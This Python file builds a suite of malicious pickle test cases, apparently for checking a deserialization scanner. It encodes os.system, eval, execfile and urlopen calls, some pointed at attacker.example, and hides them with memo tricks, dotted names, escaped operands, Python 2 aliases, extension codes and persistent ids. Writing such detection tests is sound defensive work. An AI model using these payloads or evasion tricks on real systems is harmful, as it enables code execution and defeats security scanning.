"""Hiding which callable is meant: the memo, dotted names, escapes, Python 2 names, extension codes and persistent ids."""

from assemble import *
from .case import CODE, COMMAND, EVIL, pickle

RUN = text(COMMAND) + TUPLE1 + REDUCE + STOP

# The memo
pickle('memo-overwritten', 'Both slots first hold innocent names and are overwritten before STACK_GLOBAL reads them.', 'posix.system',
       proto(4) + text('collections') + put(0) + POP + text('OrderedDict') + put(1) + POP
       + text('posix') + put(0) + POP + text('system') + put(1) + POP + get(0) + get(1) + STACK_GLOBAL + RUN)
pickle('memo-after-pop', 'MEMOIZE follows POP, so it keeps what lies below and not the text read last.', 'posix.system',
       proto(4) + text('posix') + text('collections') + POP + MEMOIZE + POP
       + text('system') + text('OrderedDict') + POP + MEMOIZE + POP + get(0) + get(1) + STACK_GLOBAL + RUN)
pickle('memo-after-put', 'MEMOIZE follows PUT: the same text gets two slots.', 'posix.system',
       proto(4) + text('posix') + put(0) + MEMOIZE + POP + text('system') + MEMOIZE + POP + get(1) + get(2) + STACK_GLOBAL + RUN)
pickle('memo-sparse', 'PUT at 200 and then MEMOIZE, which counts entries and takes slot 1.', 'posix.system',
       proto(4) + text('collections') + put(200) + POP + text('posix') + MEMOIZE + POP + text('system') + MEMOIZE + POP
       + get(1) + get(2) + STACK_GLOBAL + RUN)
pickle('memo-memoize-overwrites', 'MEMOIZE lands on slot 1, which PUT had filled with an innocent name.', 'posix.system',
       proto(4) + text('collections') + put(1) + POP + text('posix') + MEMOIZE + POP + text('system') + put(3) + POP
       + get(1) + get(3) + STACK_GLOBAL + RUN)
pickle('memo-callee', 'os.system itself waits in the memo while a clean list is built.', 'posix.system',
       proto(4) + stack_global('posix', 'system') + MEMOIZE + POP + EMPTY_LIST + MARK + get(0) + text(COMMAND) + TUPLE1
       + REDUCE + APPENDS + STOP)
pickle('memo-line-numbers', 'Protocol 0 slots written as 007 and read as 7.', 'posix.system',
       global_('posix', 'system') + b'p007\n' + POP + get_line(7) + MARK + string_line(b"'true'") + TUPLE + REDUCE + STOP)
pickle('memo-long-index', 'The slot number needs LONG_BINPUT.', 'posix.system',
       proto(2) + global_('posix', 'system') + put(70000) + POP + get(70000) + long_text(COMMAND) + TUPLE1 + REDUCE + STOP)

# Dotted names
pickle('dotted-stack-global', 'Protocol 4 walks over dots: os.system through pathlib.', 'pathlib.os.system',
       proto(4) + stack_global('pathlib', 'os.system') + RUN)
pickle('dotted-global', 'GLOBAL walks over dots, too, once PROTO says 4.', 'pathlib.os.system',
       proto(4) + global_('pathlib', 'os.system') + RUN)
pickle('dotted-after-second-proto', 'A second PROTO raises the protocol to 4 just before the dotted name.', 'shutil.os.system',
       proto(2) + EMPTY_LIST + POP + proto(4) + global_('shutil', 'os.system') + RUN)
pickle('dotted-globals-attribute', 'A dotted name that ends in the globals of a harmless function.',
       'collections.namedtuple.__globals__',
       proto(4) + stack_global('collections', 'namedtuple.__globals__') + STOP, 'suspicious')
pickle('dotted-builtins', 'eval through the builtins of a module that everybody trusts.', 'collections._sys.modules',
       proto(4) + stack_global('collections', '_sys.modules') + MEMOIZE + POP
       + call(stack_global('builtins', 'getattr'), get(0), text('get')) + STOP)
pickle('dotted-in-joblib', 'os.system through joblib, a library that scanners know as good.', 'joblib.numpy_pickle.os.system',
       proto(4) + stack_global('joblib.numpy_pickle', 'os.system') + RUN)
pickle('dotted-method', 'A method of a class in one dotted name.', 'code.InteractiveInterpreter.runsource',
       proto(4) + call(stack_global('code', 'InteractiveInterpreter.runsource'),
                       call(stack_global('code', 'InteractiveInterpreter')), text(CODE)) + STOP)

# Operands that are not plain SHORT_BINUNICODE
pickle('operand-string-escapes', 'STRING operands with escapes: p\\x6fsix and sys\\164em.', 'posix.system',
       string_line(b"'p\\x6fsix'") + string_line(b"'sys\\164em'") + STACK_GLOBAL + RUN)
pickle('operand-string-os', 'STRING operand \\x6fs.', 'os.system',
       proto(4) + string_line(b"'\\x6fs'") + string_line(b'"system"') + STACK_GLOBAL + RUN)
pickle('operand-binstring', 'BINSTRING and SHORT_BINSTRING operands.', 'posix.system',
       proto(4) + string(b'posix') + short_string(b'system') + STACK_GLOBAL + RUN)
pickle('operand-unicode-escapes', 'UNICODE operands with \\u escapes.', 'posix.system',
       proto(4) + text_line(b'p\\u006fsix') + text_line(b'syst\\U00000065m') + STACK_GLOBAL + RUN)
pickle('operand-binunicode8', 'BINUNICODE8 operands.', 'posix.system',
       proto(4) + b'\x8d' + pack('<Q', 5) + b'posix' + b'\x8d' + pack('<Q', 6) + b'system' + STACK_GLOBAL + RUN)
pickle('operand-swapped-stack', 'Other values are pushed and popped between the two operands.', 'posix.system',
       proto(4) + text('posix') + text('path') + POP + MARK + text('join') + POP_MARK + text('system') + STACK_GLOBAL + RUN)
pickle('operand-dup', 'DUP gives both operands of STACK_GLOBAL.', 'this.this',
       proto(4) + text('this') + DUP + STACK_GLOBAL + STOP, 'suspicious')
pickle('operand-computed', 'The module name is computed by a call, so no text in the file shows it.', 'builtins.str',
       proto(4) + call(stack_global('builtins', 'str'), text('posix')) + text('system') + STACK_GLOBAL + RUN)
pickle('operand-from-attribute', 'The name is read from an attribute that was planted before.', 'numpy.prod builtins.getattr',
       proto(4) + stack_global('numpy', 'prod') + MEMOIZE + tuple_of(NONE, dict_of((text('m'), text('posix')))) + BUILD + POP
       + call(stack_global('builtins', 'getattr'), get(0), text('m')) + text('system') + STACK_GLOBAL + RUN)
pickle('stack-global-third-opcode', 'STACK_GLOBAL is the third opcode of the file and there is no PROTO.', 'posix.system',
       stack_global('posix', 'system') + RUN)
pickle('stack-global-persistent-id', 'The module name comes from a persistent id.', '',
       proto(4) + text('attacker') + BINPERSID + text('system') + STACK_GLOBAL + RUN)

# Python 2 names
pickle('python2-builtin-eval', '__builtin__ is builtins below protocol 3.', 'builtins.eval',
       old_call(global_('__builtin__', 'eval'), string_line(b'"1"')) + STOP)
pickle('python2-execfile', 'execfile has no heir in Python 3; Python 2 runs the file.', 'builtins.execfile',
       old_call(global_('__builtin__', 'execfile'), string_line(b"'attacker.example'")) + STOP)
pickle('python2-commands', 'commands.getoutput is subprocess.getoutput below protocol 3.', 'subprocess.getoutput',
       proto(2) + global_('commands', 'getoutput') + long_text(COMMAND) + TUPLE1 + REDUCE + STOP)
pickle('python2-cpickle', 'cPickle.loads of a nested pickle.', 'pickle.loads',
       proto(2) + global_('cPickle', 'loads') + short_string(EVIL) + TUPLE1 + REDUCE + STOP)
pickle('python2-reduce', '__builtin__.reduce is functools.reduce below protocol 3.', 'functools.reduce posix.system',
       proto(2) + global_('__builtin__', 'reduce') + tuple_of(global_('posix', 'system'), EMPTY_LIST + long_text(COMMAND) + APPEND)
       + REDUCE + STOP)
pickle('python2-urlopen', 'urllib2.urlopen is urllib.request.urlopen below protocol 3.', 'urllib.request.urlopen',
       proto(2) + global_('urllib2', 'urlopen') + long_text('https://attacker.example') + TUPLE1 + REDUCE + STOP, 'suspicious')
pickle('python2-inst', 'INST with a Python 2 name.', 'subprocess.getstatusoutput',
       inst('commands', 'getstatusoutput', string_line(f"'{COMMAND}'".encode())) + STOP)
pickle('python2-after-lowered-proto', 'PROTO 4 and then PROTO 2: the names are mapped again.', 'builtins.eval',
       proto(4) + proto(2) + global_('__builtin__', 'eval') + long_text(CODE) + TUPLE1 + REDUCE + STOP)
pickle('python2-raised-proto', 'At protocol 4 __builtin__ is not mapped: nobody ships a module of that name.', '__builtin__.eval',
       proto(4) + stack_global('__builtin__', 'eval') + text(CODE) + TUPLE1 + REDUCE + STOP, 'suspicious')

# Extension codes
for width, code in ((1, ext1(7)), (2, ext2(300)), (4, ext4(70000))):
    pickle(f'ext{width}', f'EXT{width}: which callable is meant depends on the registry of the program that loads it.', '',
           proto(2) + code + long_text(COMMAND) + TUPLE1 + REDUCE + STOP, 'suspicious')
pickle('ext-registered-in-stream', 'copyreg.add_extension gives os.system the code 66, EXT1 calls it.', 'copyreg.add_extension',
       proto(4) + call(stack_global('copyreg', 'add_extension'), text('posix'), text('system'), integer(66)) + POP + ext1(66) + RUN)
pickle('ext-registered-python2', 'The same under protocol 2, where the module is called copy_reg.', 'copyreg.add_extension',
       proto(2) + global_('copy_reg', 'add_extension') + tuple_of(long_text('posix'), long_text('system'), integer(300)) + REDUCE
       + POP + ext2(300) + long_text(COMMAND) + TUPLE1 + REDUCE + STOP)

# Persistent ids
pickle('binpersid-gadget', 'A storage of which the type is os.system: old torch calls it with the size.', 'posix.system',
       proto(2) + tuple_of(long_text('storage'), global_('posix', 'system'), long_text(COMMAND), long_text('cpu'), integer(1))
       + BINPERSID + STOP)
pickle('binpersid-module', 'A persistent id that brings the source text of a module along.', 'some_private_pkg.models.Net',
       proto(2) + tuple_of(long_text('module'), global_('some_private_pkg.models', 'Net'), long_text('net.py'), long_text(CODE))
       + BINPERSID + STOP, 'suspicious')
pickle('persid-then-call', 'PERSID stops plain loaders; torch goes on to the call behind it.', 'posix.system',
       b'Pattacker.example\n' + POP + old_call(global_('posix', 'system'), string_line(b"'true'")) + STOP)
